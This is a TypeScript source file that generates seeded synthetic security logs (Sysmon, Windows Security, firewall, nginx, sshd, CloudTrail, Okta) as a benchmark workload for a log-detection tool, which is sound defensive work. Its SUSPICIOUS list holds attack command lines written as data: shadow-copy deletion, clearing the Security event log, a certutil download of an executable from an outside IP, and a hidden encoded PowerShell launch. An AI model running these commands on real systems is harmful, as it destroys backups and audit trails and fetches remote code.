import type { DemoRecord } from '../demo/wire.ts'

/**
 * The workload of `vedette bench ingest`: about the mix of a small company, made from a seed. Shares: Sysmon 25 % (15 %
 * process creation), Windows Security 15 %, firewall 20 %, web 20 %, sshd and sudo 8 %, CloudTrail 8 %, Okta 4 %.
 * Names, addresses, ids and command lines vary, so that no cache sees the same event twice for long.
 */
export function benchRecords(
  count: number,
  options: { seed: number; startMs: number },
): DemoRecord[] {
  const random = randomFrom(options.seed)
  const records: DemoRecord[] = []
  for (let at = 0; at < count; at += 1) {
    const timeMs = options.startMs + at
    records.push(oneRecord({ random, time: new Date(timeMs), at }))
  }
  return records
}

interface Draw {
  readonly random: () => number
  readonly time: Date
  readonly at: number
}

type Maker = (draw: Draw) => DemoRecord

/** Cumulative shares, last is 1. */
const MIX: readonly (readonly [number, Maker])[] = [
  [0.005, suspicious],
  [0.15, sysmonProcess],
  [0.2, sysmonNetwork],
  [0.25, sysmonRegistry],
  [0.33, windowsLogon],
  [0.4, windowsProcess],
  [0.6, firewall],
  [0.8, web],
  [0.88, sshd],
  [0.96, cloudTrail],
  [1, okta],
]

function oneRecord(draw: Draw): DemoRecord {
  const share = draw.random()
  for (const [upTo, make] of MIX) if (share < upTo) return make(draw)
  return okta(draw)
}

/** A small fast generator of equal numbers for equal seeds. Source: mulberry32, public domain. */
function randomFrom(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

const whole = (draw: Draw, below: number) => Math.floor(draw.random() * below)
const pick = (draw: Draw, from: readonly string[]) => from[whole(draw, from.length)] ?? ''
const hex = (draw: Draw, digits: number) =>
  Array.from({ length: Math.ceil(digits / 8) }, () =>
    whole(draw, 2 ** 32)
      .toString(16)
      .padStart(8, '0'),
  )
    .join('')
    .slice(0, digits)
const user = (draw: Draw) => `user${String(whole(draw, 800)).padStart(3, '0')}`
const host = (draw: Draw) => `ws-${String(whole(draw, 500)).padStart(3, '0')}`
const inside = (draw: Draw) => `10.${whole(draw, 8)}.${whole(draw, 250)}.${1 + whole(draw, 250)}`
const outside = (draw: Draw) =>
  `${pick(draw, ['192.0.2', '198.51.100', '203.0.113'])}.${1 + whole(draw, 250)}`

interface Program {
  readonly image: string
  readonly parent: string
  readonly parentArguments: string
  readonly arguments: string
}

const SYSTEM = 'C:\\Windows\\System32\\'
const EXPLORER = 'C:\\Windows\\explorer.exe'
const program = (
  image: string,
  args: string,
  from: readonly [string, string?] = [EXPLORER],
): Program => ({
  image,
  arguments: args,
  parent: from[0],
  parentArguments: from[1] ?? '',
})
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'
const CODE = 'C:\\Program Files\\Microsoft VS Code\\Code.exe'
const SERVICES = `${SYSTEM}services.exe`

/** Everyday programs with the parents that they have: a mix in which every third event is an attack measures attacks. */
const PROGRAMS: readonly Program[] = [
  program(CHROME, '--type=renderer --lang=en-US', [CHROME, '--profile-directory=Default']),
  program(CHROME, '--profile-directory=Default'),
  program('C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', ''),
  program(`${SYSTEM}svchost.exe`, '-k netsvcs -p -s Schedule', [SERVICES]),
  program(`${SYSTEM}svchost.exe`, '-k LocalService -p -s EventLog', [SERVICES]),
  program(`${SYSTEM}taskhostw.exe`, 'SYSTEM', [
    `${SYSTEM}svchost.exe`,
    '-k netsvcs -p -s Schedule',
  ]),
  program(`${SYSTEM}backgroundTaskHost.exe`, '-ServerName:App.Calendar', [
    `${SYSTEM}svchost.exe`,
    '-k DcomLaunch -p',
  ]),
  program('C:\\Program Files\\Git\\cmd\\git.exe', 'status --porcelain', [CODE]),
  program(CODE, '--type=utility'),
  program('C:\\Program Files\\7-Zip\\7zFM.exe', 'C:\\Users\\Public\\report.zip'),
]

function windows(
  draw: Draw,
  event: { id: number; channel: string; provider: string; data: Record<string, string> },
): DemoRecord {
  const document = {
    '@timestamp': draw.time.toISOString(),
    host: { name: `${host(draw)}.corp.example` },
    winlog: {
      channel: event.channel,
      provider_name: event.provider,
      event_id: String(event.id),
      record_id: draw.at,
      computer_name: `${host(draw)}.corp.example`,
      process: { pid: 4 + whole(draw, 9_000), thread: { id: whole(draw, 9_000) } },
      event_data: event.data,
    },
  }
  return { time: draw.time.getTime(), lane: 'bulk', body: JSON.stringify(document) }
}

const sysmon = (draw: Draw, id: number, data: Record<string, string>) =>
  windows(draw, {
    id,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    provider: 'Microsoft-Windows-Sysmon',
    data,
  })

const pickProgram = (draw: Draw) => PROGRAMS[whole(draw, PROGRAMS.length)] ?? program(CHROME, '')
const baseName = (path: string) => path.split('\\').at(-1) ?? ''

function sysmonProcess(draw: Draw): DemoRecord {
  const run = pickProgram(draw)
  return sysmon(draw, 1, {
    UtcTime: sysmonTime(draw),
    ProcessGuid: `{${hex(draw, 8)}-${hex(draw, 4)}-${hex(draw, 4)}-0000-${hex(draw, 12)}}`,
    ProcessId: String(whole(draw, 20_000)),
    Image: run.image,
    OriginalFileName: baseName(run.image),
    Description: 'application',
    Company: 'Example',
    CommandLine: `"${run.image}" ${run.arguments} --id ${hex(draw, 16)}`,
    CurrentDirectory: `C:\\Users\\${user(draw)}\\`,
    User: `CORP\\${user(draw)}`,
    LogonId: `0x${hex(draw, 6)}`,
    IntegrityLevel: pick(draw, ['Medium', 'High', 'System']),
    Hashes: `SHA256=${hex(draw, 64).toUpperCase()},IMPHASH=${hex(draw, 32).toUpperCase()}`,
    ParentImage: run.parent,
    ParentCommandLine: `"${run.parent}" ${run.parentArguments}`,
  })
}

const sysmonTime = (draw: Draw) => draw.time.toISOString().replace('T', ' ').slice(0, 23)

/** What rules wait for, so that there are findings to time: one record in two hundred. */
const SUSPICIOUS = [
  'vssadmin.exe delete shadows /all /quiet',
  'wevtutil.exe cl Security',
  'certutil.exe -urlcache -split -f http://192.0.2.99/a.exe C:\\Users\\Public\\a.exe',
  'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
]

function suspicious(draw: Draw): DemoRecord {
  const command = pick(draw, SUSPICIOUS)
  const image = `${SYSTEM}${command.split(' ')[0] ?? ''}`
  return sysmon(draw, 1, {
    UtcTime: sysmonTime(draw),
    ProcessGuid: `{${hex(draw, 8)}-0000-0000-0000-${hex(draw, 12)}}`,
    ProcessId: String(whole(draw, 20_000)),
    Image: image,
    OriginalFileName: baseName(image),
    CommandLine: `${command} ${hex(draw, 6)}`,
    User: `CORP\\${user(draw)}`,
    IntegrityLevel: 'High',
    ParentImage: EXPLORER,
    ParentCommandLine: EXPLORER,
  })
}

function sysmonNetwork(draw: Draw): DemoRecord {
  return sysmon(draw, 3, {
    UtcTime: sysmonTime(draw),
    Image: CHROME,
    User: `CORP\\${user(draw)}`,
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: inside(draw),
    SourcePort: String(49_152 + whole(draw, 16_000)),
    DestinationIp: outside(draw),
    DestinationHostname: `cdn${whole(draw, 90)}.example.net`,
    DestinationPort: pick(draw, ['443', '443', '8443']),
  })
}

function sysmonRegistry(draw: Draw): DemoRecord {
  return sysmon(draw, 13, {
    EventType: 'SetValue',
    UtcTime: sysmonTime(draw),
    Image: pickProgram(draw).image,
    TargetObject: `HKU\\S-1-5-21-${whole(draw, 1e9)}\\Software\\Vendor\\App\\Recent${hex(draw, 6)}`,
    Details: `DWORD (0x${hex(draw, 8)})`,
    User: `CORP\\${user(draw)}`,
  })
}

const security = (draw: Draw, id: number, data: Record<string, string>) =>
  windows(draw, { id, channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing', data })

function windowsLogon(draw: Draw): DemoRecord {
  return security(draw, 4624, {
    SubjectUserSid: 'S-1-0-0',
    SubjectUserName: '-',
    TargetUserSid: `S-1-5-21-1-2-3-${1_000 + whole(draw, 800)}`,
    TargetUserName: user(draw),
    TargetDomainName: 'CORP',
    TargetLogonId: `0x${hex(draw, 6)}`,
    LogonType: pick(draw, ['2', '3', '3', '3', '7', '3']),
    AuthenticationPackageName: pick(draw, ['Kerberos', 'Negotiate']),
    WorkstationName: host(draw).toUpperCase(),
    IpAddress: inside(draw),
    IpPort: String(49_152 + whole(draw, 16_000)),
  })
}

function windowsProcess(draw: Draw): DemoRecord {
  const run = pickProgram(draw)
  return security(draw, 4688, {
    SubjectUserName: user(draw),
    SubjectDomainName: 'CORP',
    SubjectLogonId: `0x${hex(draw, 6)}`,
    NewProcessId: `0x${hex(draw, 4)}`,
    NewProcessName: run.image,
    ProcessId: `0x${hex(draw, 4)}`,
    ParentProcessName: run.parent,
    CommandLine: `"${run.image}" ${run.arguments} ${hex(draw, 12)}`,
    MandatoryLabel: 'S-1-16-8192',
  })
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']
const clf = (time: Date) =>
  `${String(time.getUTCDate()).padStart(2, '0')}/${MONTHS[time.getUTCMonth()]}/${time.getUTCFullYear()}:${time.toISOString().slice(11, 19)} +0000`
const syslog5424 = (
  draw: Draw,
  from: { pri: number; host: string; app: string },
  text: string,
): DemoRecord => ({
  time: draw.time.getTime(),
  lane: 'tcp',
  body: `<${from.pri}>1 ${draw.time.toISOString()} ${from.host} ${from.app} ${whole(draw, 30_000)} - - ${text}`,
})

function firewall(draw: Draw): DemoRecord {
  const day = draw.time.toISOString()
  const action = draw.random() < 0.85 ? 'accept' : 'deny'
  return {
    time: draw.time.getTime(),
    lane: 'tcp',
    body: `<189>date=${day.slice(0, 10)} time=${day.slice(11, 19)} devname="fw-edge" devid="FG100E" eventtime=${draw.time.getTime()}000000 tz="+0000" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=${inside(draw)} srcport=${1024 + whole(draw, 60_000)} srcintf="lan" dstip=${outside(draw)} dstport=${pick(draw, ['443', '443', '443', '123'])} dstintf="wan1" sessionid=${whole(draw, 1e8)} proto=6 action="${action}" policyid=${whole(draw, 40)} service="HTTPS" duration=${whole(draw, 300)} sentbyte=${whole(draw, 90_000)} rcvdbyte=${whole(draw, 900_000)}`,
  }
}

function web(draw: Draw): DemoRecord {
  const path = pick(draw, ['/', '/shop', '/shop/item', '/api/cart', '/login', '/static/app.js'])
  const line = `${outside(draw)} - - [${clf(draw.time)}] "GET ${path}?id=${hex(draw, 8)} HTTP/1.1" ${pick(draw, ['200', '200', '200', '304', '404'])} ${whole(draw, 60_000)} "https://shop.example/" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"`
  return syslog5424(draw, { pri: 190, host: 'web-1', app: 'nginx' }, line)
}

function sshd(draw: Draw): DemoRecord {
  const how = draw.random() < 0.97 ? 'Accepted publickey' : 'Failed password'
  return syslog5424(
    draw,
    { pri: 86, host: 'bastion', app: 'sshd' },
    `${how} for ${user(draw)} from ${inside(draw)} port ${1024 + whole(draw, 60_000)} ssh2`,
  )
}

function cloudTrail(draw: Draw): DemoRecord {
  const name = user(draw)
  const record = {
    eventVersion: '1.09',
    userIdentity: {
      type: 'IAMUser',
      principalId: `AIDA${hex(draw, 12)}`,
      arn: `arn:aws:iam::111122223333:user/${name}`,
      accountId: '111122223333',
      userName: name,
    },
    eventTime: `${draw.time.toISOString().slice(0, 19)}Z`,
    eventSource: 's3.amazonaws.com',
    eventName: pick(draw, [
      'GetObject',
      'PutObject',
      'DescribeSubnets',
      'DescribeInstances',
      'GetCallerIdentity',
    ]),
    awsRegion: 'eu-central-1',
    sourceIPAddress: outside(draw),
    userAgent: 'aws-cli/2.15',
    requestParameters: { bucketName: 'releases', key: `build/${hex(draw, 10)}` },
    responseElements: null,
    eventID: hex(draw, 32),
    readOnly: true,
    eventType: 'AwsApiCall',
    recipientAccountId: '111122223333',
  }
  return { time: draw.time.getTime(), lane: 'cloudtrail', body: JSON.stringify(record) }
}

function okta(draw: Draw): DemoRecord {
  const name = `${user(draw)}@corp.example`
  const record = {
    uuid: hex(draw, 32),
    published: draw.time.toISOString(),
    eventType: 'user.session.start',
    version: '0',
    severity: 'INFO',
    displayMessage: 'User login to Okta',
    actor: { id: hex(draw, 20), type: 'User', alternateId: name, displayName: name },
    client: {
      ipAddress: outside(draw),
      userAgent: { rawUserAgent: 'Mozilla/5.0' },
      geographicalContext: { country: 'Germany', city: 'Berlin' },
    },
    outcome: { result: draw.random() < 0.9 ? 'SUCCESS' : 'FAILURE', reason: null },
    target: null,
  }
  return { time: draw.time.getTime(), lane: 'okta', body: JSON.stringify(record) }
}
